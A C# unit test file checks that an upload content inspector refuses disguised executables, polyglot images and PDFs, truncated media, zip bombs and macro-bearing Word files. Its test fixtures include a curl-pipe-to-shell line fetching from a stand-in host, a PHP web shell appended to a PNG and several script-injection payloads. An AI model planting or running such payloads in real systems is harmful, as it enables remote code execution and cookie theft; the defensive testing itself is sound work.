using System.Text;
using BrandAutomator.Application.Common.Ports;
using BrandAutomator.Infrastructure.Files.Inspection;

namespace BrandAutomator.Infrastructure.Tests.Files.Inspection;

public class ContentInspectorRefusalTests
{
    private readonly ContentInspector _inspector = new();

    [Fact]
    public async Task An_empty_file_is_refused()
    {
        await AssertRefused([], "empty.txt", "empty");
    }

    [Theory]
    [InlineData("logo.png")]
    [InlineData("notes.txt")]
    public async Task A_linux_executable_is_refused_whatever_its_name(string name)
    {
        await AssertRefused(Samples.Elf(), name, "Executable", "ELF");
    }

    [Fact]
    public async Task A_windows_executable_renamed_png_is_refused()
    {
        await AssertRefused(Samples.WindowsExecutable(), "logo.png", "Executable", "MZ");
    }

    [Fact]
    public async Task A_shell_script_renamed_jpg_is_refused()
    {
        await AssertRefused(Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid | sh\n"), "photo.jpg", "Executable", "#!");
    }

    [Fact]
    public async Task A_png_with_a_zip_appended_is_refused_as_a_polyglot()
    {
        var zip = Samples.Zip(("payload.txt", Encoding.UTF8.GetBytes("hidden")));

        await AssertRefused([.. Samples.Png(50, 50), .. zip], "logo.png", "two formats");
    }

    [Fact]
    public async Task A_png_with_bytes_after_iend_is_refused_as_a_polyglot()
    {
        await AssertRefused([.. Samples.Png(50, 50), .. "<?php system($_GET['c']); ?>"u8.ToArray()], "logo.png", "IEND");
    }

    [Fact]
    public async Task A_jpeg_with_trailing_html_is_refused_as_a_polyglot()
    {
        var html = "<html><body><script>alert(document.cookie)</script></body></html>"u8.ToArray();

        await AssertRefused([.. Samples.Jpeg(50, 50), .. html], "photo.jpg", "FFD9");
    }

    [Fact]
    public async Task A_jpeg_with_markup_in_a_vendor_trailer_is_refused()
    {
        byte[] trailer = [.. "SEFH"u8.ToArray(), .. "<html><script>alert(1)</script></html>"u8.ToArray(), 0, 0, 0, 0, .. "SEFT"u8.ToArray()];

        await AssertRefused([.. Samples.Jpeg(50, 50), .. trailer], "photo.jpg", "FFD9");
    }

    [Fact]
    public async Task A_gif_carrying_a_script_in_its_first_kilobyte_is_refused()
    {
        await AssertRefused(Samples.Gif(10, 10, comment: "<script>alert(1)</script>"), "anim.gif", "<script");
    }

    [Fact]
    public async Task A_pdf_with_a_zip_header_near_its_start_is_refused_as_a_polyglot()
    {
        var pdf = Samples.Pdf(["Hello"]);
        var header = Array.IndexOf(pdf, (byte)'\n') + 1;
        byte[] polyglot = [.. pdf[..header], .. "%PK\u0003\u0004 hidden archive\n"u8.ToArray(), .. pdf[header..]];

        await AssertRefused(polyglot, "doc.pdf", "ZIP header");
    }

    [Fact]
    public async Task A_pdf_with_data_after_its_end_marker_is_refused()
    {
        await AssertRefused([.. Samples.Pdf(["Hello"]), .. "\n#!/bin/sh\necho appended payload\n"u8.ToArray()], "doc.pdf", "%%EOF");
    }

    [Fact]
    public async Task A_truncated_pdf_is_refused()
    {
        var pdf = Samples.Pdf(["Hello"], ["World"]);

        await AssertRefused(pdf[..(pdf.Length / 2)], "doc.pdf", "truncated");
    }

    [Fact]
    public async Task An_svg_with_a_script_is_refused_because_svg_is_not_allowed()
    {
        var svg = """<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>""";

        await AssertRefused(Encoding.UTF8.GetBytes(svg), "logo.png", "SVG");
    }

    [Fact]
    public async Task An_svg_with_an_xml_declaration_is_refused()
    {
        var svg = "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"1\" height=\"1\"/></svg>";

        await AssertRefused(Encoding.UTF8.GetBytes(svg), "logo.svg", "SVG");
    }

    [Fact]
    public async Task An_html_page_is_refused()
    {
        await AssertRefused("<!DOCTYPE html><html><body><p>Hi</p></body></html>"u8.ToArray(), "notes.txt", "HTML");
    }

    [Fact]
    public async Task A_truncated_png_is_refused()
    {
        var png = Samples.Png(200, 200);

        await AssertRefused(png[..(png.Length / 2)], "logo.png", "truncated");
    }

    [Fact]
    public async Task A_png_cut_just_before_its_end_chunk_is_refused()
    {
        var png = Samples.Png(200, 200);

        await AssertRefused(png[..^12], "logo.png", "truncated");
    }

    [Fact]
    public async Task A_truncated_jpeg_is_refused()
    {
        var jpeg = Samples.Jpeg(200, 200);

        await AssertRefused(jpeg[..(jpeg.Length * 2 / 3)], "photo.jpg", "truncated");
    }

    [Fact]
    public async Task A_truncated_gif_is_refused()
    {
        var gif = Samples.Gif(40, 40);

        await AssertRefused(gif[..(gif.Length - 40)], "anim.gif", "truncated");
    }

    [Fact]
    public async Task A_truncated_webp_is_refused()
    {
        var webp = Samples.WebP(200, 200);

        await AssertRefused(webp[..(webp.Length - 30)], "banner.webp", "truncated");
    }

    [Fact]
    public async Task An_image_larger_than_the_size_limit_is_refused_before_it_is_decoded()
    {
        await AssertRefused(Samples.PngHeaderOnly(30_000, 10), "huge.png", "20,000");
        await AssertRefused(Samples.PngHeaderOnly(12_000, 12_000), "huge.png", "megapixels");
    }

    [Fact]
    public async Task A_zip_bomb_disguised_as_docx_is_refused()
    {
        var bomb = Samples.ZipBombDocx(300L * 1024 * 1024);
        Assert.True(bomb.Length < 2 * 1024 * 1024, $"the sample itself should stay small, it is {bomb.Length:N0} bytes");

        await AssertRefused(bomb, "brief.docx", "zip bomb");
    }

    [Fact]
    public async Task A_zip_bomb_whose_directory_understates_its_size_is_refused()
    {
        // 20 MB of zeros declared as 1 MB: the declared ratio looks harmless, only decompressing tells.
        var bomb = Samples.WithDeclaredSize(Samples.ZipBombDocx(20L * 1024 * 1024), "word/document.xml", 1024 * 1024);

        var inspection = await Inspect(bomb, "brief.docx");

        Assert.False(inspection.Accepted);
    }

    [Fact]
    public async Task A_docx_with_a_vba_project_is_refused()
    {
        var docx = Samples.WithZipEntry(Samples.Docx(["Hello"]), "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0, 1, 2, 3]);

        await AssertRefused(docx, "brief.docx", "macros");
    }

    [Fact]
    public async Task A_zip_that_is_not_a_word_document_is_refused()
    {
        await AssertRefused(Samples.Zip(("a.txt", "hello"u8.ToArray())), "brief.docx", "ZIP archives are not accepted");
    }

    [Fact]
    public async Task Random_binary_junk_is_refused_as_not_recognised()
    {
        var junk = new byte[4096];
        new Random(20260101).NextBytes(junk);
        junk[0] = 0x00;

        await AssertRefused(junk, "data.txt", "not recognised");
    }

    [Fact]
    public async Task Utf8_text_with_nul_bytes_is_refused()
    {
        await AssertRefused("Looks like text\0but is not"u8.ToArray(), "notes.txt", "NUL");
    }

    [Fact]
    public async Task Text_that_is_not_valid_utf8_is_refused()
    {
        await AssertRefused([.. "Caf"u8.ToArray(), 0xE9, .. " au lait, in Windows-1252"u8.ToArray()], "notes.txt", "not UTF-8");
    }

    [Fact]
    public async Task A_truncated_mp4_is_refused()
    {
        var mp4 = Samples.Mp4(mediaBytes: 4096);

        await AssertRefused(mp4[..^100], "clip.mp4", "truncated");
    }

    [Fact]
    public async Task An_mp4_with_html_appended_is_refused()
    {
        await AssertRefused([.. Samples.Mp4(), .. "<html><script>x()</script></html>"u8.ToArray()], "clip.mp4", "two formats");
    }

    [Fact]
    public async Task An_audio_only_mp4_is_refused()
    {
        await AssertRefused(Samples.Mp4(handler: "soun", width: 0, height: 0), "song.mp4", "no video track");
    }

    [Fact]
    public async Task A_matroska_video_is_refused_because_only_webm_is_allowed()
    {
        await AssertRefused(Samples.WebM(docType: "matroska"), "clip.mkv", "Matroska");
    }

    [Fact]
    public async Task A_truncated_webm_is_refused()
    {
        var webm = Samples.WebM();

        await AssertRefused(webm[..^20], "clip.webm", "truncated");
    }

    [Fact]
    public async Task A_heic_photo_is_refused_with_advice()
    {
        await AssertRefused(Samples.Mp4(majorBrand: "heic"), "IMG_0001.HEIC", "HEIC");
    }

    [Fact]
    public async Task A_legacy_word_file_is_refused_with_advice()
    {
        byte[] ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];

        await AssertRefused(ole, "old.doc", ".docx");
    }

    private async Task AssertRefused(byte[] bytes, string name, params string[] reasonContains)
    {
        var inspection = await Inspect(bytes, name);

        Assert.False(inspection.Accepted, $"{name} was accepted as {inspection.MediaType}");
        Assert.False(string.IsNullOrWhiteSpace(inspection.RefusalReason));
        foreach (var part in reasonContains)
        {
            Assert.Contains(part, inspection.RefusalReason, StringComparison.OrdinalIgnoreCase);
        }
    }

    private async Task<ContentInspection> Inspect(byte[] bytes, string name)
    {
        using var stream = new MemoryStream(bytes);
        return await _inspector.InspectAsync(stream, name, CancellationToken.None);
    }
}
